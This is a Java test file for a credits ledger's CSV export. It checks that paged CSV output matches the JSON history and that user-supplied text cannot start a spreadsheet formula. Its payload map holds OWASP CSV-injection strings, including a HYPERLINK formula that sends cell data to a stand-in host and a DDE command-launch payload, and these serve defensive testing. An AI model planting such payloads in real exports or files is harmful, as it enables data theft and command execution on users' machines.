package dev.teamcredits.ledger;

import static dev.teamcredits.ledger.LedgerFixture.as;
import static dev.teamcredits.ledger.LedgerFixture.post;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import dev.teamcredits.events.team.Plan;
import dev.teamcredits.events.team.Role;
import dev.teamcredits.ledger.LedgerFixture.Org;
import dev.teamcredits.ledger.LedgerFixture.User;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * The history's CSV export ({@code Accept: text/csv}) is the JSON history in another format: the same rows,
 * pages and order for every filter, walked through the {@code Link} header as JSON is walked through its cursors.
 */
@QuarkusTest
class TransactionCsvTest extends LedgerTestBase {

    private static final Pattern NEXT = Pattern.compile("<([^>]*)>\\s*;\\s*rel=\"next\"");
    private static final String HEADER = "id,at,type,amount,actor,reason,reverses,accounts";

    /**
     * OWASP's CSV injection payloads, one per character that makes a spreadsheet read a cell as a formula
     * ({@code = + - @}) or that a spreadsheet skips before one (tab, CR, LF); and a text that already starts
     * with the neutralising quote, which must come back as it was too.
     */
    static final Map<String, String> FORMULAS = new LinkedHashMap<>();

    static {
        FORMULAS.put("=", "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")");
        FORMULAS.put("+", "+1+cmd|' /C calc'!A0");
        FORMULAS.put("-", "-2+3");
        FORMULAS.put("@", "@SUM(1+1)");
        FORMULAS.put("tab", "\t=1+1");
        FORMULAS.put("CR", "\r=1+1");
        FORMULAS.put("LF", "\n=1+1");
        FORMULAS.put("'", "'=1+1");
    }

    /** What a cell must never start with: a spreadsheet would run it (or skip to what it runs). */
    private static final String FORMULA_STARTS = "=+-@\t\r\n";

    /**
     * Every combination of account, type and limit filters (each also left out): the CSV walked page by page
     * through {@code rel="next"} links holds, page for page, the rows of the JSON walked through
     * {@code nextCursor}; both hold exactly the rows of the whole filtered history, each once, newest first.
     */
    @Test
    void everyCsvPageKeepsTheQuerysFiltersAndHoldsTheJsonPage() throws IOException {
        Org org = Org.create(Plan.PRO, 1000, false, true);
        User ben = org.join("ben", false, null);
        User cleo = org.join("cleo", true, null);
        org.transfer("pool", ben.subject(), 60);
        org.transfer("pool", cleo.subject(), 20);
        String fromBen = org.transfer(ben.subject(), cleo.subject(), 5);
        post(org.admin).body(Map.of("amount", 2, "reason", "back")).post("/v1/orgs/{o}/transfers/{t}/reversal", org.id,
                fromBen).then().statusCode(201);
        org.buy(10);
        // 55 spends of ben's own balance: more than a default page of 50.
        post(ben).body(Map.of("spends", LedgerFixture.pageScrapes("csv-", 55))).post("/v1/orgs/{o}/spends/batch",
                org.id).then().statusCode(200);
        for (int i = 0; i < 3; i++) {
            post(cleo).body(Map.of("action", "PAGE_SCRAPE", "quantity", 1)).post("/v1/orgs/{o}/spends", org.id).then()
                    .statusCode(200);
        }
        org.closeCycle(); // EXPIRY of what is left of the cycle's subscription credits, and the next GRANT

        List<String> accounts = Arrays.asList(null, "pool", ben.subject(), cleo.subject(), "nobody");
        List<String> types = Arrays.asList(null, "GRANT", "TRANSFER", "SPEND", "EXPIRY", "ROLLOVER", "PURCHASE");
        List<Integer> limits = Arrays.asList(null, 2, 7, 1000);
        int combinations = 0;
        int pages = 0;
        List<String> wrong = new ArrayList<>();
        for (String account : accounts) {
            for (String type : types) {
                List<Map<String, Object>> all = jsonPage(org, query(account, type, 1000, null)).items();
                for (Map<String, Object> row : all) {
                    assertTrue(type == null || type.equals(row.get("type")), "type filter " + type + ": " + row);
                    assertTrue(account == null || accountsOf(row).keySet().stream().anyMatch(ref -> ref.equals(
                            "POOL:" + org.id) && account.equals("pool") || ref.endsWith(":" + account)),
                            "account filter " + account + ": " + row);
                }
                for (Integer limit : limits) {
                    String what = "account=" + account + " type=" + type + " limit=" + limit;
                    List<List<Map<String, Object>>> json = jsonWalk(org, account, type, limit);
                    List<List<List<String>>> csv = csvWalk(org, account, type, limit);
                    List<Map<String, Object>> jsonRows = json.stream().flatMap(List::stream).toList();
                    assertEquals(ids(all), ids(jsonRows), what + ": the JSON pages hold the whole filtered history");
                    assertEquals(jsonRows.size(), new HashSet<>(ids(jsonRows)).size(), what + ": a row twice");
                    String difference = difference(json, csv);
                    if (difference != null) {
                        wrong.add(what + ": " + difference);
                        continue;
                    }
                    for (int p = 0; p < json.size(); p++) {
                        for (int r = 0; r < json.get(p).size(); r++) {
                            assertCsvRowIsJsonRow(json.get(p).get(r), csv.get(p).get(r), what);
                        }
                    }
                    combinations++;
                    pages += csv.size();
                }
            }
        }
        assertEquals(List.of(), wrong, wrong.size() + " of " + accounts.size() * types.size() * limits.size()
                + " filter combinations page differently as CSV");
        System.out.printf("[csv] %d filter combinations, %d CSV pages, each equal to its JSON page%n", combinations,
                pages);
    }

    /** Where the CSV pages first differ from the JSON pages (null if nowhere), in a line. */
    private static String difference(List<List<Map<String, Object>>> json, List<List<List<String>>> csv) {
        for (int p = 0; p < Math.max(json.size(), csv.size()); p++) {
            List<String> expected = p < json.size() ? json.get(p).stream().map(TransactionCsvTest::describe).toList()
                    : List.of();
            List<String> actual = p < csv.size() ? csv.get(p).stream().map(TransactionCsvTest::describe).toList()
                    : List.of();
            if (!expected.equals(actual)) {
                return "CSV page " + (p + 1) + " of " + csv.size() + " holds " + summary(actual) + ", JSON page "
                        + (p + 1) + " of " + json.size() + " holds " + summary(expected);
            }
        }
        return null;
    }

    /** A page's rows by type, e.g. {@code 3 rows (TRANSFER 2, SPEND 1)}. */
    private static String summary(List<String> rows) {
        Map<String, Long> byType = rows.stream().collect(Collectors.groupingBy(r -> r.split(" ")[0],
                LinkedHashMap::new, Collectors.counting()));
        return rows.size() + " rows " + byType.entrySet().stream().map(e -> e.getKey() + " " + e.getValue())
                .collect(Collectors.joining(", ", "(", ")"));
    }

    /**
     * Every CSV column that carries user text (actor: the caller's subject; reason: free text; accounts: refs
     * with user ids) × every formula start, read back with a CSV parser: the cell does not start a formula, it
     * is the text with one quote before it (OWASP), so the text is recovered by dropping that quote, and
     * ordinary text is written as it is.
     */
    @Test
    void csvCellsOfUserTextNeverStartAFormulaAndKeepTheText() throws IOException {
        Org org = Org.create(Plan.PRO, 1000, false, true);
        Map<String, String> transfers = new LinkedHashMap<>();
        for (Map.Entry<String, String> formula : FORMULAS.entrySet()) {
            String payload = formula.getValue();
            // The admin's and the member's subjects start with the payload: actor and accounts carry it.
            User admin = org.join(LedgerFixture.userWithSubject(payload + "#admin-" + UUID.randomUUID(), "admin"),
                    Role.ADMIN, false);
            User member = org.join(LedgerFixture.userWithSubject(payload + "#member-" + UUID.randomUUID(), "member"),
                    Role.MEMBER, false);
            transfers.put(formula.getKey(), post(admin).body(Map.of("from", "pool", "to", member.subject(), "amount", 1,
                    "reason", payload)).post("/v1/orgs/{o}/transfers", org.id).then().statusCode(201).extract()
                    .path("transactionId"));
        }
        String ordinary = "Q3 \"launch\", team A; 50% more";
        transfers.put("ordinary", post(org.admin).body(Map.of("from", "pool", "to", org.admin.subject(), "amount", 1,
                "reason", ordinary)).post("/v1/orgs/{o}/transfers", org.id).then().statusCode(201).extract()
                .path("transactionId"));

        Map<Object, Map<String, Object>> json = new LinkedHashMap<>();
        jsonPage(org, query(null, "TRANSFER", 1000, null)).items().forEach(row -> json.put(row.get("id"), row));
        Map<String, List<String>> csv = new LinkedHashMap<>();
        String export = as(org.admin).accept("text/csv").queryParam("type", "TRANSFER").queryParam("limit", 1000)
                .get("/v1/orgs/{o}/transactions", org.id).then().statusCode(200).contentType("text/csv").extract()
                .asString();
        List<List<String>> rows = parse(export);
        assertEquals(List.of(HEADER.split(",")), rows.get(0));
        rows.subList(1, rows.size()).forEach(row -> csv.put(row.get(0), row));

        List<String> table = new ArrayList<>();
        List<String> wrong = new ArrayList<>();
        for (Map.Entry<String, String> transfer : transfers.entrySet()) {
            Map<String, Object> expected = json.get(transfer.getValue());
            List<String> row = csv.get(transfer.getValue());
            assertEquals(8, row.size(), transfer.getKey() + ": one row of 8 cells, whatever the text held");
            Map<String, String> texts = new LinkedHashMap<>();
            texts.put("actor", (String) expected.get("actor"));
            texts.put("reason", (String) expected.get("reason"));
            texts.put("accounts", null); // refs first, so never a formula start: the JSON row's pairs, as they are
            for (Map.Entry<String, String> text : texts.entrySet()) {
                String cell = row.get(List.of(HEADER.split(",")).indexOf(text.getKey()));
                String original = text.getValue();
                boolean neutral = cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0;
                boolean kept = original == null ? sameAccounts(cell, accountsOf(expected))
                        : (cell.startsWith("'") ? cell.substring(1) : cell).equals(original);
                boolean owasp = original == null || cell.equals(startsWithFormulaOrQuote(original) ? "'" + original
                        : original);
                String line = String.format("%-8s %-8s cell %-44s %s", transfer.getKey(), text.getKey(),
                        printable(cell), neutral && kept && owasp ? "ok" : (neutral ? "" : "STARTS A FORMULA ")
                                + (kept ? "" : "TEXT LOST ") + (owasp ? "" : "NOT THE TEXT WITH ONE QUOTE BEFORE IT"));
                table.add(line);
                if (!(neutral && kept && owasp)) {
                    wrong.add(line.replaceAll(" +", " "));
                }
            }
        }
        System.out.println("[csv] formula injection, " + FORMULAS.size() + " starts x 3 columns + ordinary text:\n"
                + String.join("\n", table));
        assertEquals(List.of(), wrong, wrong.size() + " cells of user text are not neutralised or lost their text");
    }

    private static boolean startsWithFormulaOrQuote(String text) {
        return !text.isEmpty() && (FORMULA_STARTS.indexOf(text.charAt(0)) >= 0 || text.charAt(0) == '\'');
    }

    /** The accounts cell holds each {@code ref=net} pair of the JSON row, and nothing else. */
    private static boolean sameAccounts(String cell, Map<String, Long> accounts) {
        // Refs hold user ids, which may hold spaces and '=': compare pair by pair, not by splitting the cell.
        List<String> pairs = accounts.entrySet().stream().map(e -> e.getKey() + "=" + e.getValue()).toList();
        return pairs.stream().allMatch(cell::contains)
                && cell.length() == pairs.stream().mapToInt(String::length).sum() + pairs.size() - 1;
    }

    private static String printable(String cell) {
        return "\"" + cell.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n") + "\"";
    }

    // ---------------------------------------------------------------- JSON and CSV walks

    private record JsonPage(List<Map<String, Object>> items, String nextCursor) {
    }

    private static JsonPage jsonPage(Org org, String query) {
        Response response = as(org.admin).urlEncodingEnabled(false).get(url(org, query));
        response.then().statusCode(200).contentType("application/json");
        return new JsonPage(response.path("items"), response.path("nextCursor"));
    }

    /** The JSON history page by page: the same query again with {@code cursor} = the last page's nextCursor. */
    private static List<List<Map<String, Object>>> jsonWalk(Org org, String account, String type, Integer limit) {
        List<List<Map<String, Object>>> pages = new ArrayList<>();
        String cursor = null;
        do {
            JsonPage page = jsonPage(org, query(account, type, limit, cursor));
            pages.add(page.items());
            cursor = page.nextCursor();
            assertTrue(pages.size() <= 500, "no end to the JSON pages");
        } while (cursor != null);
        return pages;
    }

    /** The CSV history page by page, following each page's {@code rel="next"} link as a client would. */
    private static List<List<List<String>>> csvWalk(Org org, String account, String type, Integer limit)
            throws IOException {
        List<List<List<String>>> pages = new ArrayList<>();
        URI next = URI.create(url(org, query(account, type, limit, null)));
        while (next != null) {
            Response response = as(org.admin).accept("text/csv").urlEncodingEnabled(false).get(next.toString());
            response.then().statusCode(200).contentType("text/csv");
            List<List<String>> rows = parse(response.asString());
            assertEquals(List.of(HEADER.split(",")), rows.get(0), "header row");
            pages.add(rows.subList(1, rows.size()));
            String link = response.header("Link");
            if (link == null) {
                next = null;
            } else {
                Matcher m = NEXT.matcher(link);
                assertTrue(m.find(), "Link header without rel=next: " + link);
                next = resolve(next, m.group(1));
            }
            assertTrue(pages.size() <= 500, "no end to the CSV pages");
        }
        return pages;
    }

    /**
     * A link target resolved against the page's URL as RFC 3986 says; {@link URI#resolve} follows RFC 2396, which
     * would drop the last path segment of a query-only reference ({@code ?cursor=…}).
     */
    private static URI resolve(URI base, String reference) {
        if (reference.startsWith("?")) {
            String url = base.toString();
            int query = url.indexOf('?');
            return URI.create((query < 0 ? url : url.substring(0, query)) + reference);
        }
        return base.resolve(reference);
    }

    static List<List<String>> parse(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<String[]> it = mapper.readerFor(String[].class).readValues(csv)) {
            it.forEachRemaining(row -> rows.add(List.of(row)));
        }
        return rows;
    }

    private static String url(Org org, String query) {
        return RestAssured.baseURI + ":" + RestAssured.port + "/v1/orgs/" + org.id + "/transactions"
                + (query.isEmpty() ? "" : "?" + query);
    }

    private static String query(String account, String type, Integer limit, String cursor) {
        Map<String, Object> params = new LinkedHashMap<>();
        params.put("account", account);
        params.put("type", type);
        params.put("limit", limit);
        params.put("cursor", cursor);
        return params.entrySet().stream().filter(e -> e.getValue() != null)
                .map(e -> e.getKey() + "=" + URLEncoder.encode(e.getValue().toString(), StandardCharsets.UTF_8))
                .collect(Collectors.joining("&"));
    }

    // ---------------------------------------------------------------- rows

    private static List<Object> ids(List<Map<String, Object>> rows) {
        return rows.stream().map(r -> r.get("id")).toList();
    }

    /** A row as one readable line, e.g. {@code SPEND 1 <id>}, so that a wrong page reads as what it holds. */
    private static String describe(Map<String, Object> row) {
        return row.get("type") + " " + row.get("amount") + " " + row.get("id");
    }

    private static String describe(List<String> row) {
        return row.get(2) + " " + row.get(3) + " " + row.get(0);
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Long> accountsOf(Map<String, Object> row) {
        Map<String, Long> accounts = new LinkedHashMap<>();
        ((Map<String, Object>) row.get("accounts")).forEach((k, v) -> accounts.put(k, ((Number) v).longValue()));
        return accounts;
    }

    /** Every column of the CSV row is the JSON row's value (accounts as {@code ref=net} pairs, in any order). */
    private static void assertCsvRowIsJsonRow(Map<String, Object> json, List<String> csv, String what) {
        String row = what + ", row " + json.get("id");
        assertEquals(8, csv.size(), row + ": columns");
        assertEquals(json.get("id"), csv.get(0), row + ": id");
        assertEquals(Instant.parse((String) json.get("at")), Instant.parse(csv.get(1)), row + ": at");
        assertEquals(json.get("type"), csv.get(2), row + ": type");
        assertEquals(String.valueOf(json.get("amount")), csv.get(3), row + ": amount");
        assertEquals(Objects.toString(json.get("actor"), ""), csv.get(4), row + ": actor");
        assertEquals(Objects.toString(json.get("reason"), ""), csv.get(5), row + ": reason");
        assertEquals(Objects.toString(json.get("reverses"), ""), csv.get(6), row + ": reverses");
        Map<String, Long> accounts = new LinkedHashMap<>();
        for (String pair : csv.get(7).split(" ")) {
            int eq = pair.lastIndexOf('=');
            if (eq < 0) {
                fail(row + ": accounts cell " + csv.get(7));
            }
            accounts.put(pair.substring(0, eq), Long.parseLong(pair.substring(eq + 1)));
        }
        assertEquals(accountsOf(json), accounts, row + ": accounts");
    }
}
